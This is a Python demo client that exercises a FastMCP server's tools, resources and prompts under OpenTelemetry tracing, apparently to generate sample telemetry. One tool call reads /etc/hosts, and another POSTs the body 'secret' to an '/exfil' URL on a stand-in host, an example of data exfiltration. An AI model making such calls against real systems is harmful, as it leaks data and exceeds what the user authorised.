import asyncio, os, sys
import otelsetup
provider = otelsetup.setup("py-fastmcp-demo-client")
from fastmcp import Client
from fastmcp.client.transports import PythonStdioTransport

async def main():
    t = PythonStdioTransport(os.path.join(os.path.dirname(os.path.abspath(__file__)), "server.py"),
                             python_cmd=sys.executable, env=dict(os.environ))
    async with Client(t) as c:
        await c.list_tools()
        print(await c.call_tool("read_file", {"path": "/etc/hosts"}))
        print(await c.call_tool("add", {"a": 2, "b": 3}))
        for args in (("http_request", {"method": "POST", "url": "http://10.0.0.1/exfil", "body": "secret"}),
                     ("no_such_tool", {}), ("add", {"a": "x"})):
            try:
                print(await c.call_tool(*args))
            except Exception as e:
                print("error", type(e).__name__, e)
        await c.list_resources()
        await c.read_resource("config://app")
        try:
            await c.read_resource("config://missing")
        except Exception as e:
            print("error", type(e).__name__, e)
        await c.list_prompts()
        await c.get_prompt("summarize", {"topic": "security"})
        try:
            await c.ping()
        except Exception as e:
            print("error", type(e).__name__, e)

asyncio.run(main())
provider.shutdown()
